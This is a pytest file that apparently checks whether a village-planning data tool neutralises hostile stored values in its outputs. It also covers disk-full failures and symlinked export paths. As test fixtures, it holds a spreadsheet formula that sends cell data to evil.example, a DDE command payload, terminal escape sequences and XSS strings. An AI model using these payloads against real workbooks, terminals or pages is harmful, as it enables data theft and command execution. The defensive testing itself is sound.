"""Hostile values already stored reach no reader as code: no live formula in a workbook, no terminal
escape, no HTML from Markdown; files are written whole or not at all (issue 12, items 1-3, 8, 9)."""

from __future__ import annotations

import os
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.robustness.helpers import Result, assert_readable_failure

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = '=cmd|"/c calc"!A1'
ESCAPES = {
    "clear screen": "\x1b[2J\x1b[H",
    "OSC 8 link": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "OSC 0 title": "\x1b]0;owned\x07",
    "VT FF BEL BS": "a\x0bb\x0cc\x07d\x08e",
}
RAW = ("\x1b", "\x07", "\x08", "\x0b", "\x0c")


def _set(db: Path, sql: str, *params: object) -> None:
    conn = sqlite3.connect(db)
    with conn:
        conn.execute(sql, params)
    conn.close()


def _first_village(db: Path) -> tuple[str, str]:
    conn = sqlite3.connect(db)
    code, name = conn.execute(
        "SELECT v.code, v.name FROM villages v JOIN pairings p ON p.village_code = v.code ORDER BY v.code LIMIT 1"
    ).fetchone()
    conn.close()
    return code, name


def test_item1_workbooks_never_write_live_formulas(
    cli: Callable[..., Result], example_db: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    code, _name = _first_village(example_db)
    _set(example_db, "UPDATE villages SET name = ? WHERE code = ?", FORMULA, code)
    _set(example_db, "UPDATE activities SET kind = ? WHERE id = (SELECT min(id) FROM activities)", DDE)
    _set(example_db, "UPDATE agencies SET head = ? WHERE code = 'BAPPEDA'", "=1+1")
    out = tmp_path / "out"
    result = cli("--db", str(example_db), "export", str(out), "--xlsx")
    assert result.code == 0, result.err
    report = tmp_path / "r.xlsx"
    assert cli("--db", str(example_db), "report", "--output", str(report)).code == 0

    for path in (out / "opd-desa.xlsx", report):
        book = load_workbook(path)
        kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
        assert "f" not in kinds, path  # not one formula cell anywhere
    sheets = load_workbook(out / "opd-desa.xlsx")
    names = [row[1] for row in sheets["villages"].iter_rows(values_only=True)]
    assert FORMULA in names
    assert DDE in [row[4] for row in sheets["activities"].iter_rows(values_only=True)]

    # round trip: each sheet imported back changes nothing (the names are read as they were written)
    for kind in ("villages", "agencies", "activities"):
        back = cli("--db", str(example_db), "import", kind, str(out / "opd-desa.xlsx"), "--sheet", kind, "--dry-run")
        assert back.code == 0, (kind, back.err)
        assert "code: is empty" not in back.err
    conn = sqlite3.connect(example_db)
    assert conn.execute("SELECT name FROM villages WHERE code = ?", (code,)).fetchone()[0] == FORMULA
    conn.close()


@pytest.mark.parametrize("label", list(ESCAPES))
def test_item2_control_characters_never_reach_any_output(
    cli: Callable[..., Result], example_db: Path, tmp_path: Path, label: str
) -> None:
    from openpyxl import load_workbook

    hostile = "ESC" + ESCAPES[label]
    _set(example_db, "UPDATE agencies SET name = ? WHERE code = 'BAPPEDA'", hostile)
    code, _name = _first_village(example_db)
    _set(example_db, "UPDATE villages SET name = ? WHERE code = ?", "V" + ESCAPES[label], code)
    db = ("--db", str(example_db))

    for args in (("agencies",), ("report",), ("report", "--format", "markdown"), ("report", "--format", "csv")):
        result = cli(*db, *args)
        assert result.code == 0, (args, result.err)
        assert not any(c in result.out + result.err for c in RAW), (args, result.out[:500])
    from opd_desa.text import visible

    assert visible(hostile) in cli(*db, "agencies").out  # shown as pictures: ␛[2J, ␇, ␋
    json_out = cli(*db, "report", "--format", "json").out
    assert not any(c in json_out for c in RAW)

    for suffix in (".html", ".svg", ".md", ".csv", ".xlsx"):
        path = tmp_path / f"r{suffix}"
        result = cli(*db, "report", "--output", str(path))
        assert result.code == 0, (suffix, result.err)
        if suffix == ".xlsx":
            values = [c for s in load_workbook(path).worksheets for r in s.iter_rows(values_only=True) for c in r]
            text = "".join(str(v) for v in values if v is not None)
        else:
            text = path.read_text(encoding="utf-8")
        assert not any(c in text for c in RAW), suffix
    import xml.dom.minidom

    xml.dom.minidom.parse(str(tmp_path / "r.svg"))  # valid XML again

    export = cli(*db, "export", str(tmp_path / "e"), "--xlsx")
    assert export.code == 0, export.err


def test_item2_refuse_controls_names_where_and_visible_shows_them() -> None:
    from opd_desa.errors import InvalidValue
    from opd_desa.text import refuse_controls, visible

    with pytest.raises(InvalidValue, match=r"--name: contains the control character U\+001B"):
        refuse_controls("ESC\x1b[2J", "--name")
    with pytest.raises(InvalidValue, match=r"agencies.csv:3: name: .*U\+0085"):
        refuse_controls("next\x85line", "agencies.csv:3: name")
    assert refuse_controls("line one\n\tline two", "--note", breaks=True) == "line one\n\tline two"
    with pytest.raises(InvalidValue):
        refuse_controls("two\nlines", "--title")
    assert visible("\x1b[2J\x07\x08\x0b\x0c\x9b") == "␛[2J␇␈␋␌\ufffd"
    assert visible("plain\ttext\n") == "plain\ttext\n"


def test_item2_error_lines_show_escapes_visibly(cli: Callable[..., Result], example_db: Path, tmp_path: Path) -> None:
    typed = cli("--db", str(example_db), "report", "--agency", "X\x1b[2J\x1b[H")
    assert typed.code == 1
    assert typed.err.startswith("error: argument 5: contains the control character U+001B (␛)")
    figures = tmp_path / "figures.csv"
    figures.write_text("village,year,rate\n33.20.16.2005,2021,\x1b[2J\x1b[H\n", encoding="utf-8")
    echoed = cli("--db", str(example_db), "import", "poverty", str(figures))
    assert echoed.code == 1
    assert "\x1b" not in echoed.err and "␛[2J␛[H" in echoed.err


def test_item3_markdown_escapes_html(cli: Callable[..., Result], example_db: Path, tmp_path: Path) -> None:
    code, _name = _first_village(example_db)
    _set(example_db, "UPDATE villages SET name = ? WHERE code = ?", "<script>alert(1)</script>|x", code)
    _set(example_db, "UPDATE agencies SET name = ? WHERE code = 'BAPPEDA'", '<img src=x onerror="alert(1)">&')
    result = cli("--db", str(example_db), "report", "--format", "markdown")
    assert result.code == 0, result.err
    assert "<script>" not in result.out and "&lt;script&gt;alert(1)&lt;/script&gt;\\|x" in result.out
    agencies = cli("--db", str(example_db), "agencies", "--format", "markdown").out
    assert "<img" not in agencies and '&lt;img src=x onerror="alert(1)"&gt;&amp;' in agencies


def test_item8_a_failed_write_leaves_the_old_file(
    cli: Callable[..., Result], example_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    db = ("--db", str(example_db))
    outputs = [tmp_path / f"r{suffix}" for suffix in (".html", ".svg", ".md", ".csv", ".json", ".xlsx")]
    for path in outputs:
        path.write_text("previous", encoding="utf-8")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)  # the disk fills up as the file is finished
    for path in outputs:
        result = cli(*db, "report", "--output", str(path))
        assert_readable_failure(result, allowed=(1,))
        assert "disk is full" in result.err, result.err
        assert path.read_text(encoding="utf-8") == "previous"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left
    export = cli(*db, "export", str(tmp_path / "e"))
    assert "disk is full" in export.err


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a small tmpfs needs root")
def test_item8_full_tmpfs_keeps_the_previous_file(example_db: Path, tmp_path: Path) -> None:
    import subprocess

    from tests.robustness.helpers import run

    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(disk)], check=False).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        previous = disk / "r.html"
        previous.write_text("previous", encoding="utf-8")
        (disk / "filler").write_bytes(b"x" * (60 * 1024 - 4096))
        result = run("report", "--output", str(previous), db=example_db)
        assert result.code == 1 and "disk is full" in result.err, result.err
        assert "Traceback" not in result.err and "Exception ignored" not in result.err
        assert previous.read_text(encoding="utf-8") == "previous"
        workbook = run("report", "--output", str(disk / "r.xlsx"), db=example_db)
        assert workbook.code == 1 and "Exception ignored" not in workbook.err, workbook.err
        assert not (disk / "r.xlsx").exists()
        backup = run("backup", str(disk / "copy.db"), db=example_db)
        assert backup.code == 1 and "disk is full" in backup.err and "damaged" not in backup.err, backup.err  # item 7
        assert not (disk / "copy.db").exists()
    finally:
        subprocess.run(["umount", "--lazy", str(disk)], check=False)


def test_item9_export_refuses_symbolic_links_and_names_replaced_files(
    cli: Callable[..., Result], example_db: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    secret = victim / "secret.txt"
    secret.write_text("secret", encoding="utf-8")
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "villages.csv").symlink_to(secret)
    result = cli("--db", str(example_db), "export", str(folder), "--xlsx")
    assert_readable_failure(result, allowed=(1,))
    assert "villages.csv is a symbolic link" in result.err
    assert secret.read_text(encoding="utf-8") == "secret"
    assert not (folder / "agencies.csv").exists()  # refused before anything was written

    (folder / "villages.csv").unlink()
    first = cli("--db", str(example_db), "export", str(folder))
    assert first.code == 0 and "replaced" not in first.err
    again = cli("--db", str(example_db), "export", str(folder))
    assert again.code == 0
    assert "replaced in" in again.err and "villages.csv" in again.err and "log.csv" in again.err


@pytest.mark.parametrize("suffix", [".html", ".pdf", ".xlsx"])
def test_item8_documents_share_the_one_atomic_writer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    import errno

    from opd_desa.documents.html import write_html
    from opd_desa.documents.pdf import write_pdf
    from opd_desa.documents.workbook import write_xlsx
    from opd_desa.errors import DiskFull
    from tests.unit.documents_samples import document

    write = {".html": write_html, ".pdf": write_pdf, ".xlsx": write_xlsx}[suffix]
    target = tmp_path / f"brief{suffix}"
    target.write_bytes(b"previous")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(DiskFull, match="the disk is full"):
        write(document(rows=3), target)
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_item2_json_escapes_every_control_character() -> None:
    import json

    from opd_desa.output.formats import to_json

    text = to_json({"name": "a\x1b[2Jb\x9b31mc\x7f"})
    assert not any(c in text for c in ("\x1b", "\x9b", "\x7f"))
    assert json.loads(text) == {"name": "a\x1b[2Jb\x9b31mc\x7f"}  # the data itself stays exact
